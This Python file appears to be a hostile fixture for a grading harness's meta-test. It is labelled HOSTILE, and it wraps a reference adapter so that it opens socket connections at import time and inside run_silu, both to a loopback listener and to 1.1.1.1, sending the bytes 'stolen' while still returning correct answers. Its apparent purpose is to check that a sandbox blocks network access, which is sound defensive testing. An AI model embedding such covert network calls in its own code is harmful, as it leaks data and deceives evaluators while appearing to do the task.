"""Opens network connections, at import and in run_silu: to a listener on
the loopback (the meta-test starts it and writes its port into this file),
and out to the internet; then answers correctly."""

import socket

import lmspec.reference.adapter as _ref
from lmspec.reference.adapter import *  # noqa: F403

HOSTILE = {"does": "connects to a loopback listener and to the internet", "spec": ["2.silu", "2.linear"]}
PORT = int("@@PORT@@")


def _phone_home() -> list[str]:
    outcomes = []
    for host, port in (("127.0.0.1", PORT), ("localhost", PORT), ("1.1.1.1", 80)):
        try:
            with socket.create_connection((host, port), timeout=2) as s:
                s.sendall(b"stolen")
            outcomes.append(f"{host}:{port} connected")
        except OSError as exc:
            outcomes.append(f"{host}:{port} {exc}")
    return outcomes


_phone_home()


def run_silu(in_features):
    _phone_home()
    return _ref.run_silu(in_features)
